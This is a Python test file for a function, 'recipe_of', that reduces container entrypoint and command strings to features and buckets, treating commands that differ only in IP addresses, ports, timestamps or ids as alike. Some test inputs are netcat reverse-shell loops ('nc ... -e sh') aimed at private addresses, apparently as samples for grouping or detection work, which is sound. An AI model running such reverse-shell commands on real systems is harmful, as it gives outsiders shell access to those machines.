"""What runs, without what changes with every build."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pratique.family import recipe_of


@pytest.mark.parametrize(
    ("one", "other"),
    [
        ("probe 10.0.0.1 3333", "probe 192.168.7.200 14444"),
        ("probe fd00::1:2 3333", "probe fd00:9::7 4444"),
        ("touch 2026-01-01T10:00:00Z", "touch 2027-12-31T23:59:59.5Z"),
        ("run --id 0123456789abcdef", "run --id fedcba98765432100"),
        ("while :; do nc 10.1.1.1 443 -e sh; done", "while :;   do nc 172.16.5.9 8443 -e sh; done"),
    ],
)
def test_what_changes_with_every_build_is_made_alike(one: str, other: str) -> None:
    first, second = recipe_of(("sh", "-c"), (one,)), recipe_of(("sh", "-c"), (other,))
    assert first.features() == second.features() != frozenset()
    assert first.bucket() == second.bucket()


def test_other_commands_have_other_features() -> None:
    one, other = recipe_of((), ("sh", "-c", "nc 10.1.1.1 443 -e sh")), recipe_of((), ("python3", "-m", "http.server"))
    assert one.features().isdisjoint(other.features())
    assert one.program == "sh"


@given(st.lists(st.text(max_size=200), max_size=5), st.lists(st.text(max_size=500), max_size=5))
def test_any_text_gives_a_recipe(entrypoint: list[str], cmd: list[str]) -> None:
    recipe = recipe_of(entrypoint, cmd)
    assert all(0 <= feature < 1 << 63 for feature in (*recipe.features(), recipe.bucket()))


def test_a_huge_command_is_cut() -> None:
    recipe = recipe_of(("a:" * 1_000_000, "1" * 1_000_000), ())
    assert len(recipe.command) <= 2_000
    assert len(recipe.program) <= 1 << 14
